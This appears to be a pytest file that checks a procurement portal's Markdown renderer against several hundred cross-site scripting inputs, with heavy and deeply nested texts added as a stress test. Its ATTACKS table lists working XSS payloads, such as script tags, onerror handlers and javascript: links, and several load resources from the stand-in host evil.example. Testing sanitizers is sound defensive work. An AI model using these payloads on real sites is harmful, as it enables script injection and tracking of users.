"""Hundreds of hostile texts in Markdown: each attack in each place where Markdown puts text.

Judged twice: by what the HTML holds, and by a real browser without any policy of ours.
"""

import re
from itertools import product

import pytest

from procurement_portal.lib.markdown import MAX_LINE, MarkdownRefused, render

HOST = "https://evil.example"
# Each would run, fetch or restyle something if it came through as it was typed.
ATTACKS = {
    "script": "<script>window.ran=1</script>",
    "script from elsewhere": f"<script src={HOST}/x.js></script>",
    "script in capitals": "<SCRIPT>window.ran=1</SCRIPT>",
    "script never closed": "<script>window.ran=1//",
    "script inside a script": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "module": f'<script type="module" src="{HOST}/x.mjs"></script>',
    "picture that fails": "<img src=x onerror=window.ran=1>",
    "picture by slash": "<img/src=x/onerror=window.ran=1>",
    "tracking pixel": f'<img src="{HOST}/pixel.gif" width=1 height=1>',
    "picture set": f'<img srcset="{HOST}/a.png 2x">',
    "remote picture": f"![a]({HOST}/a.png)",
    "remote picture by host": "![a](//evil.example/a.png)",
    "picture in data": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture that is a script": "![a](javascript:window.ran=1)",
    "svg": "<svg onload=window.ran=1></svg>",
    "svg animation": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "svg use": f'<svg><use href="{HOST}/a.svg#x"/></svg>',
    "mathml": '<math><mi xlink:href="javascript:window.ran=1">a</mi></math>',
    "style": f"<style>@import '{HOST}/a.css';body{{display:none}}</style>",
    "style attribute": f'<b style="background:url({HOST}/a.png)">a</b>',
    "sheet": f'<link rel=stylesheet href="{HOST}/a.css">',
    "frame": f"<iframe src={HOST}></iframe>",
    "frame with a text": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f"<object data={HOST}/a.swf></object>",
    "embed": f"<embed src={HOST}/a.swf>",
    "video": f"<video src={HOST}/a.mp4 autoplay></video>",
    "audio": "<audio src=x onerror=window.ran=1>",
    "base": f"<base href={HOST}/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "form": f"<form action={HOST}><button>Go</button></form>",
    "field": "<input autofocus onfocus=window.ran=1>",
    "details": "<details open ontoggle=window.ran=1>a</details>",
    "handler": '<p onclick="window.ran=1">a</p>',
    "template": "<template><script>window.ran=1</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "comment": "<!--><img src=x onerror=window.ran=1>-->",
    "processing": "<?xml-stylesheet href='javascript:window.ran=1'?>",
    "cdata": "<![CDATA[<script>window.ran=1</script>]]>",
    "script link": "[a](javascript:window.ran=1)",
    "script link in capitals": "[a](JAVASCRIPT:window.ran=1)",
    "script link with a tab": "[a](java&Tab;script:window.ran=1)",
    "script link in entities": "[a](&#x6A;avascript&colon;window.ran=1)",
    "script link in percents": "[a](javascript%3Awindow.ran=1)",
    "data link": "[a](data:text/html,<script>window.ran=1</script>)",
    "vbscript link": "[a](vbscript:x)",
    "blob link": "[a](blob:https://evil.example/1)",
    "script in angle brackets": "<javascript:window.ran=1>",
    "link broken out of": '[a](https://a.example "\\" onmouseover=window.ran=1 b=\\"")',
    "host without a scheme": "[a](//evil.example)",
    "host by a backslash": "[a](/\\evil.example)",
    "plain http": "[a](http://evil.example)",
    "entity that opens a tag": "&lt;img src=x onerror=window.ran=1&gt;",
    "nul in a tag": "<scr\x00ipt>window.ran=1</script>",
}
# Where it is put: the parser has a path of its own for each of these.
PLACES = {
    "a paragraph": "Before {} after",
    "a heading": "## {}",
    "a list": "- one\n- {}\n    - {}",
    "a quotation": "> {}\n> > {}",
    "a table": "| a | b |\n|---|---|\n| {} | {} |",
    "emphasis": "**{}** and *{}*",
    "words of a link": "[{}](https://a.example)",
    "words of a picture": "![{}](/guidance/pictures/" + "a" * 64 + ")",
    "a block of its own": "\n\n{}\n\n",
}
TEXTS = {
    f"{attack} in {place}": frame.replace("{}", ATTACKS[attack])
    for attack, (place, frame) in product(ATTACKS, PLACES.items())
}
TAG = re.compile(r"<\s*/?\s*([^\s>/]+)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>")
ATTRIBUTE = re.compile(r"([^\s=\"'/]+)\s*=\s*\"([^\"]*)\"")
NAMES = {
    *("p", "h2", "h3", "h4", "h5", "ul", "ol", "li", "strong", "em", "code", "pre", "br", "hr"),
    *("blockquote", "a", "div", "table", "thead", "tbody", "tr", "th", "td", "img"),
}
HARMLESS = {"class", "href", "rel", "role", "tabindex", "aria-label", "scope", "start", "id"}
OURS = re.compile(r"/guidance/pictures/a{64}")
SAFE_LINK = re.compile(r"https://|mailto:|#|/(?![/\\])")


def faults(html: str) -> list[str]:
    """Elements, attributes and addresses that no text of a guide may bring."""
    found = []
    for name, attributes in TAG.findall(html):
        found += [f"<{name}>"] * (name not in NAMES)
        for key, value in ATTRIBUTE.findall(attributes):
            picture = name == "img" and key in ("src", "alt", "loading")
            found += [f"{key} on <{name}>"] * (key not in HARMLESS and not picture)
            found += [f"{key}={value}"] * (key == "href" and not SAFE_LINK.match(value))
            found += [f"{key}={value}"] * (key == "src" and not OURS.fullmatch(value))
    return found


def test_there_are_hundreds_of_them():
    assert len(set(TEXTS.values())) >= 450


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_hostile_text_brings_nothing_but_words(text):
    assert faults(render(text).html) == []
    assert faults(render(text, pictures=True).html) == []


@pytest.mark.parametrize("text", ["<script>", "<img src=x onerror=a>", '<p style="a">'])
def test_what_would_be_a_fault_is_seen(text):
    assert faults(text.replace("=a", '="a"'))


NESTED = {
    "quotations": "> " * 900 + "a",
    "lists": "- " * 900 + "a",
    "emphasis": "*" * 900 + "a" + "*" * 900,
    "brackets": "[" * 900 + "a" + "](/a)" * 900,
    "elements": "<b>" * 900 + "a",
    "both in turn": "> - " * 450 + "a",
}
HEAVY = {
    "a megabyte on a line": "a" * 1_000_000,
    "a megabyte of stars": "*" * 1_000_000,
    "a megabyte of brackets": "[" * 1_000_000,
    "a megabyte of lines": "a\n" * 500_000,
    "a megabyte of entities": "&amp;" * 200_000,
}


def shown_or_refused(text: str) -> tuple[str, str]:
    """The HTML, or why there is none."""
    try:
        return render(text).html, ""
    except MarkdownRefused as refused:
        return "", str(refused)


@pytest.mark.timeout(20, method="signal")
@pytest.mark.parametrize("text", [*NESTED.values(), *HEAVY.values()], ids=[*NESTED, *HEAVY])
def test_what_is_nested_or_heavy_is_shown_whole_or_refused_with_a_reason(text):
    html, reason = shown_or_refused(text)
    assert faults(html) == []
    if reason:
        assert re.search(r"or less|fewer|start a new paragraph", reason)
    else:
        assert len(text) <= 2 * MAX_LINE
        assert "a" in re.sub(r"<[^>]*>", "", html)


@pytest.mark.browser
def test_a_browser_runs_nothing_and_asks_for_nothing(browser):
    asked, page = [], browser.new_page()
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    # As they were typed, they do both.
    page.set_content(ATTACKS["picture that fails"] + ATTACKS["tracking pixel"])
    page.wait_for_function("window.ran === 1")
    assert asked
    asked.clear()
    page.evaluate("delete window.ran")
    shown = [render(text, pictures=True).html for text in TEXTS.values()]
    page.set_content("<!DOCTYPE html><title>All</title>" + "\n".join(shown))
    page.evaluate("document.querySelectorAll('*').forEach(e => e.tagName !== 'A' && e.click())")
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert [url for url in asked if not OURS.search(url)] == []
    page.close()
